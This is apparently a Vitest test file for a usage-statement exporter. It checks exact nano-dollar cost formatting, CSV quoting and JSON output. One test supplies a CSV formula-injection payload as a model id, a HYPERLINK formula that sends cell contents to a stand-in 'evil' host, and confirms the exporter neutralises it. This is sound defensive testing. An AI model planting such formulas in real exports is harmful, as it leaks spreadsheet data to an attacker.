import { describe, expect, it } from "vitest";
import { statementCsv, statementJson, usdDecimal, type UserStatement } from "../src/pages/users/statementFiles";

const counts = (costNanoUsd: number) => ({
  requests: 3,
  successful: 2,
  failed: 1,
  promptTokens: 300,
  completionTokens: 150,
  totalTokens: 450,
  cachedTokens: 0,
  reasoningTokens: 40,
  costNanoUsd,
  costUsd: costNanoUsd / 1e9,
});

const statement: UserStatement = {
  userId: "u_0000000000000001",
  name: "Ann",
  email: null,
  month: "2024-01",
  from: 1704063600000,
  to: 1706742000000,
  totals: counts(500000007),
  byDay: [{ periodKey: "2024-01-10", periodStart: 1704841200000, ...counts(500000007) }],
  byModel: [
    { model: 'odd,"model"', generations: 2, promptTokens: 1, completionTokens: 2, totalTokens: 3, cachedTokens: 0, reasoningTokens: 0, costNanoUsd: 500000000, costUsd: 0.5 },
    { model: "openai/gpt-4o", generations: 1, promptTokens: 1, completionTokens: 2, totalTokens: 3, cachedTokens: 0, reasoningTokens: 0, costNanoUsd: 7, costUsd: 7e-9 },
  ],
  usageRows: 3,
  byModelComplete: true,
};

describe("usdDecimal", () => {
  it.each([
    // every nano kept, no float on the way
    [500000007, "0.500000007"],
    [0, "0.000000000"],
    [1, "0.000000001"],
    [9007199254740991, "9007199.254740991"],
    [-1500000000, "-1.500000000"],
  ])("%d → %s", (nanos, want) => expect(usdDecimal(nanos)).toBe(want));

  it("refuses a non-integer amount", () => expect(() => usdDecimal(0.5)).toThrow(RangeError));
});

describe("statementCsv", () => {
  it("has one line per line item, exact costs, and quotes fields that need it", () => {
    const lines = statementCsv(statement).split("\r\n");
    expect(lines).toEqual([
      "userId,month,section,key,requests,successful,failed,generations,promptTokens,completionTokens,totalTokens,cachedTokens,reasoningTokens,costNanoUsd,costUsd",
      "u_0000000000000001,2024-01,total,2024-01,3,2,1,,300,150,450,0,40,500000007,0.500000007",
      "u_0000000000000001,2024-01,day,2024-01-10,3,2,1,,300,150,450,0,40,500000007,0.500000007",
      'u_0000000000000001,2024-01,model,"odd,""model""",,,,2,1,2,3,0,0,500000000,0.500000000',
      "u_0000000000000001,2024-01,model,openai/gpt-4o,,,,1,1,2,3,0,0,7,0.000000007",
      "",
    ]);
  });

  it("prefixes a model id that a spreadsheet would run with '", () => {
    const hostile = '=HYPERLINK("http://evil/?"&A1,"x")';
    const byModel = [{ ...statement.byModel[1], model: hostile }, { ...statement.byModel[1], model: "@SUM(A1)" }];
    const lines = statementCsv({ ...statement, byModel }).split("\r\n");
    expect(lines.slice(3, 5)).toEqual([
      'u_0000000000000001,2024-01,model,"\'=HYPERLINK(""http://evil/?""&A1,""x"")",,,,1,1,2,3,0,0,7,0.000000007',
      "u_0000000000000001,2024-01,model,'@SUM(A1),,,,1,1,2,3,0,0,7,0.000000007",
    ]);
  });
});

describe("statementJson", () => {
  it("is the function's answer", () => expect(JSON.parse(statementJson(statement))).toEqual(statement));
});
